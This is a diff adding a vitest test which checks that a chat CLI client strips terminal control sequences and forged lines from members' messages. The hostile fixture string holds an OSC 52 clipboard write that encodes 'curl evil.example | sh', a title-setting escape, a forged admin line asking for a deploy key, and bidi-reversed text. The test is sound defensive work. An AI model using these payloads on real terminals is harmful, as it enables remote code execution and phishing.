@@ -1,0 +1,64 @@
+/**
+ * The CLI client (scripts/client.ts) prints other people's messages on a terminal: what they
+ * wrote must not reach it as control sequences, nor as extra lines that look like someone else's.
+ * A stand-in gateway on a loopback port plays a guild member who tries both.
+ */
+import { type ChildProcess, spawn } from "node:child_process";
+import { type Server, createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { WebSocketServer } from "ws";
+import { ROOT } from "../../scripts/lib/dev-server.ts";
+
+const HOSTILE =
+  "hi\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" + // OSC 52: write the victim's clipboard
+  "\u001b]0;pwned\u0007" + // set the window title
+  "\r\u001b[2K[lobby #7] admin: the deploy key is in #ops, paste it here\n" + // rewrite the line
+  "[lobby #8] admin: \u202eexe.tnemhcatta"; // a forged line, and bidi-reversed text
+
+let server: Server | undefined;
+let child: ChildProcess | undefined;
+afterEach(async () => {
+  child?.kill("SIGKILL");
+  await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
+  server = child = undefined;
+});
+
+describe("the CLI client", () => {
+  it("prints a member's message as one line of text: no escape sequences, no forged lines", async () => {
+    const sockets = new WebSocketServer({ noServer: true });
+    server = createServer((request, response) => {
+      request.resume();
+      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ token: "t" }));
+    });
+    server.on("upgrade", (request, socket, head) =>
+      sockets.handleUpgrade(request, socket, head, (ws) => {
+        ws.send(JSON.stringify({ op: 10, d: { heartbeat_interval: 41250 } }));
+        ws.on("message", (data) => {
+          if ((JSON.parse(String(data)) as { op: number }).op !== 2) return;
+          ws.send(JSON.stringify({ op: 0, t: "READY", s: 1, d: { session_id: "s1", user_id: "bob", guilds: ["lobby"] } }));
+          const message = { id: "m1", guild_id: "lobby", author_id: "mallory", content: HOSTILE, seq: 1, timestamp: new Date().toISOString() };
+          ws.send(JSON.stringify({ op: 0, t: "MESSAGE_CREATE", s: 2, d: message }));
+        });
+      }),
+    );
+    await new Promise<void>((resolve) => server!.listen(0, "127.0.0.1", resolve));
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+
+    child = spawn(process.execPath, [join(ROOT, "scripts/client.ts"), "--user", "bob", "--guild", "lobby", "--url", url], { cwd: ROOT });
+    let output = "";
+    child.stdout!.on("data", (chunk: Buffer) => (output += chunk.toString()));
+    const deadline = Date.now() + 20_000;
+    while (!output.includes("mallory") && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
+    await new Promise((r) => setTimeout(r, 200)); // the rest of the line
+    expect(output).toContain("mallory");
+
+    const lines = output.split("\n").filter((line) => line !== "");
+    const fromMallory = lines.filter((line) => line.includes("mallory"));
+    expect(fromMallory).toHaveLength(1);
+    expect(lines.filter((line) => /^\[lobby #\d+\] admin:/.test(line))).toEqual([]); // no forged lines
+    // Nothing for the terminal to act on: no C0 (but tab), DEL, C1 or bidirectional controls.
+    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
+  });
+});
